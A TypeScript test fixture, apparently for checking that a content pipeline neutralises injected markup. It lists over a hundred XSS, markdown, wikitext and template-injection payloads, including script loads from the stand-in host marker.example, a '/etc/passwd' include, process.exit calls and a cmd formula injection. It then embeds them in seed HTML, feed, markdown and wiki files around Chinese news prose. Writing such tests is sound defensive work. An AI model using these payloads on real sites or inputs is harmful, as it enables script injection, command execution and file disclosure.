/**
 * Markup that runs, loads or names something where it is not taken for text. Each would set `window.marked` or ask
 * `marker.example` for something.
 */
export const markers: readonly string[] = [
  "<script>marked=1</script>",
  "<script src=//marker.example/a.js></script>",
  "<ScRiPt/x>marked=1</sCrIpT >",
  "<<script>marked=1//<</script>",
  "</title><script>marked=1</script>",
  "</textarea></style></noscript></template><script>marked=1</script>",
  "<!--><script>marked=1</script>-->",
  "<!--<img src=\"--><img src=x onerror=marked=1//\">",
  "<![CDATA[<script>marked=1</script>]]>",
  "<?xml ?><script xmlns=\"http://www.w3.org/1999/xhtml\">marked=1</script>",
  "<img src=x onerror=marked=1>",
  "<img/src='x'/onerror='marked=1'>",
  "<img src=`x`onerror=marked=1>",
  "<img src=https://marker.example/a.png>",
  "<img srcset='https://marker.example/a.png 2x' src=''>",
  "<picture><source srcset=https://marker.example/b.png><img></picture>",
  "<svg onload=marked=1>",
  "<svg><script>marked=1</script></svg>",
  "<svg><animate onbegin=marked=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:marked=1><text y=9>甲</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=marked=1>#x'/></svg>",
  "<svg><p><style><img src=x onerror=marked=1>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=marked=1>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=marked=1&gt;\">",
  "<math href=javascript:marked=1>乙</math>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=marked=1 src>\">",
  "<iframe src=javascript:marked=1></iframe>",
  "<iframe srcdoc='<script>parent.marked=1</script>'></iframe>",
  "<object data=javascript:marked=1></object>",
  "<embed src=//marker.example/a.swf>",
  "<video src=x onerror=marked=1 poster=//marker.example/p.png></video>",
  "<audio src=//marker.example/a.mp3 autoplay></audio>",
  "<details open ontoggle=marked=1>丙</details>",
  "<marquee onstart=marked=1>丁</marquee>",
  "<body onload=marked=1>",
  "<input autofocus onfocus=marked=1>",
  "<form action=//marker.example/><button>戊</button></form>",
  "<button form=x formaction=javascript:marked=1>己</button>",
  "<a href=javascript:marked=1>庚</a>",
  "<a href=\"java\tscript:marked=1\">辛</a>",
  "<a href=\"&#x6A;avascript&colon;marked=1\">壬</a>",
  "<a href=\" \u0001javascript:marked=1\">癸</a>",
  "<a href=data:text/html,<script>marked=1</script>>子</a>",
  "<a href=vbscript:marked=1>丑</a>",
  "<a href=https://www.bbc.com@marker.example/>https://www.bbc.com/</a>",
  "<a href=x target=_blank ping=//marker.example/>寅</a>",
  "<base href=//marker.example/>",
  "<meta http-equiv=refresh content='0;url=//marker.example/'>",
  "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
  "<link rel=stylesheet href=//marker.example/a.css>",
  "<link rel=prefetch href=//marker.example/p><link rel=dns-prefetch href=//marker.example>",
  "<style>@import '//marker.example/a.css';body{background:url(//marker.example/b)}</style>",
  "<p style='background:url(//marker.example/c);position:fixed;inset:0'>卯</p>",
  "<table background=//marker.example/t.png><td background=//marker.example/u.png>辰</table>",
  "<noscript><p title=\"</noscript><img src=x onerror=marked=1>\">",
  "<template><script>marked=1</script></template>",
  "<xmp><p title=\"</xmp><svg/onload=marked=1>\">",
  "<textarea><p title=\"</textarea><img src=x onerror=marked=1>\">",
  "<select><style></select><script>marked=1</script></style>",
  "<plaintext><script>marked=1</script>",
  "<div id=content name=archiveSearch class=body data-picture data-article-id=x>巳</div>",
  "<img name=cookie><form id=location><input name=attributes></form>",
  "<isindex action=javascript:marked=1>",
  "<portal src=//marker.example/></portal>",
  "<x-y is=z onclick=marked=1 tabindex=1 onfocus=marked=1 autofocus>午</x-y>",
  "<div><template shadowrootmode=open><img src=x onerror=marked=1></template></div>",
  "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//marker.example/\"]}]}</script><script type=importmap>{\"imports\":{\"a\":\"//marker.example/a.js\"}}</script>",
  "<math><annotation-xml encoding=text/html><script>marked=1</script></annotation-xml></math>",
  "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=marked=1>\"></noscript></desc><foreignObject><iframe srcdoc='<script>parent.marked=1</script>'></iframe></foreignObject></svg>",
  "<fencedframe src=//marker.example/></fencedframe><button commandfor=x command=show-modal popovertarget=x>未</button><dialog id=x open>申</dialog>",
  "<a href=https://marker.example/ attributionsrc=//marker.example/ download=x.exe target=_top>https://www.bbc.com/</a>",
  "<ref>外<a href=https://marker.example/>内<ref>中</ref></a></ref>",
  "&lt;img src=x onerror=marked=1&gt;",
  "&amp;lt;script&amp;gt;marked=1&amp;lt;/script&amp;gt;",
  "\\u003cscript\\u003emarked=1\\u003c/script\\u003e",
  "+ADw-script+AD4-marked=1+ADw-/script+AD4-",
  "\u2028</script><script>marked=1</script>",
  "[未](javascript:marked=1)",
  "[未]( java&Tab;script:marked=1 )",
  "![申](javascript:marked=1)",
  "![申](https://marker.example/m.png \"x\" onerror=marked=1)",
  "[酉]: javascript:marked=1\n\n[酉][酉]",
  "<javascript:marked=1>",
  "<https://marker.example/\" onmouseover=marked=1>",
  "`<img src=x onerror=marked=1>`",
  "$\\href{javascript:marked=1}{x}$",
  "[javascript:marked=1 戌]",
  "[[File:x.jpg|link=javascript:marked=1|亥]]",
  "<ref name=\"><img src=x onerror=marked=1>\">注</ref>",
  "{{#tag:script|marked=1}}",
  "<span style=\"{{{1|x}}}\" onclick=marked=1>甲</span>",
  "{{ constructor.constructor('return process')().exit(9) }}",
  "{% include '/etc/passwd' %}",
  "<%= process.exit(9) %>",
  "${process.exit(9)}",
  "#{process.exit(9)}",
  "@{marked=1}",
  "__proto__", "constructor", "toString", "hasOwnProperty",
  "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
  "\u202eexe.txt\u202c", "\u2066戊\u2069", "\u061c", "\u200f\u200e", "\u0007\u001b[2J\u001b]0;x\u0007", "\ufeff", "\u{e0041}", "\ufdd0", "\u0000",
];

const line = (text: string): string => text.replaceAll(/[\r\n]/g, " ").replaceAll("\u0000", " ");
const prose = "海港大桥昨天通车，记者到现场看了一天。俄罗斯和越南都派了代表来。";
const xml = (text: string): string => line(text).replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("]]", "");
const yaml = (text: string): string => JSON.stringify(line(text));

/** Kinds of seed with a marker wherever one may stand; `nth` keeps addresses apart. */
export const carriers: Readonly<Record<string, (marker: string, nth: number) => string>> = {
  "fragment.txt": (m, nth) => `<!--1718870400000-->\n[大桥${line(m).replaceAll("]", "")}](https://harbour.example/f${nth})\n------\n\n<div>${m}</div><p>${prose}</p><p>记者：${m}</p><figure><img src="https://harbour.example/${nth}.jpg" alt="${m.replaceAll('"', "&quot;")}"><figcaption>${m}</figcaption></figure>`,
  "post.md": (m, nth) => `---\ntitle: ${yaml(`通车 ${m}`)}\ndate: 2024-06-20\nfrom: https://harbour.example/p${nth}\nauthor: ${yaml(m)}\ntags: [${yaml(m)}, 桥]\nextra: ${yaml(m)}\n---\n\n## ${line(m)}\n\n${m}\n\n${prose}\n\n- ${m}\n\n| 甲 | 乙 |\n|-|-|\n| ${line(m).replaceAll("|", "")} | 丙 |\n\n正文[^1]\n\n[^1]: ${m}\n`,
  "note.md": (m, nth) => `# 通车 ${line(m)}\n\n来源：https://harbour.example/n${nth}\n作者：${line(m)}\n\n${m}\n\n${prose}\n`,
  "page.html": (m, nth) => `<!doctype html><html lang="zh"><head><title>通车 ${m}</title><link rel=canonical href="https://harbour.example/h${nth}"><meta property="og:title" content="${m.replaceAll('"', "&quot;")}"><meta name=author content="${m.replaceAll('"', "&quot;")}"><script type="application/ld+json">${JSON.stringify({"@type": "NewsArticle", headline: m, author: {name: m}, keywords: [m], datePublished: "2024-06-20"})}</script></head><body><article><h1>通车 ${m}</h1><p>${prose}</p>${m}<p>${prose}</p></article></body></html>`,
  "feed.xml": (m, nth) => `<?xml version="1.0"?><rss version="2.0"><channel><title>${xml(m)}</title><link>https://harbour.example/</link><item><title>通车 ${xml(m)}</title><link>https://harbour.example/r${nth}</link><author>${xml(m)}</author><category>${xml(m)}</category><pubDate>Thu, 20 Jun 2024 08:00:00 GMT</pubDate><description>&lt;p&gt;${prose}&lt;/p&gt;${xml(m)}</description></item></channel></rss>`,
  "feed.json": (m, nth) => JSON.stringify({version: "https://jsonfeed.org/version/1.1", title: m, items: [{id: m, url: `https://harbour.example/j${nth}`, title: `通车 ${m}`, content_html: `<p>${prose}</p>${m}`, authors: [{name: m}], tags: [m], date_published: "2024-06-20T08:00:00Z"}]}),
  "page.txt": (m, nth) => `'''大桥${nth}'''是[[海港]]的一座桥。<ref>{{cite web|title=${m}|url=https://harbour.example/w${nth}}}</ref>${prose}\n\n== ${line(m)} ==\n${m}\n\n{{Infobox bridge|name=${m}|image=${line(m)}}}\n\n* [[${line(m)}|${line(m)}]]\n\n[[Category:${line(m)}]]\n`,
  "text.txt": (m, nth) => `通车 ${line(m)}\n\n来源：https://harbour.example/t${nth}\n\n${prose}${m}\n${m}\n`,
};

/** Names of files that a system lets stand, each with a marker in it; a slash cannot be. */
export function fileNames(): readonly string[] {
  return markers.map((marker) => line(marker).replaceAll("/", "／")).filter((name) => name.trim() !== "" && !name.startsWith(".") && Buffer.byteLength(name) < 200);
}

/** Seeds with every marker in every kind, by file name. */
export function markedSeeds(): Record<string, string> {
  const kinds = Object.entries(carriers);
  const seeds = markers.flatMap((marker, nth) => kinds.map(([name, write], kind) => [`${nth}-${name}`, write(marker, nth * kinds.length + kind)] as const));
  const named = fileNames().map((name, nth) => [`名/${nth} ${name}.txt`, carriers["fragment.txt"]?.("", 100_000 + nth) ?? ""] as const);
  return Object.fromEntries([...seeds, ...named]);
}
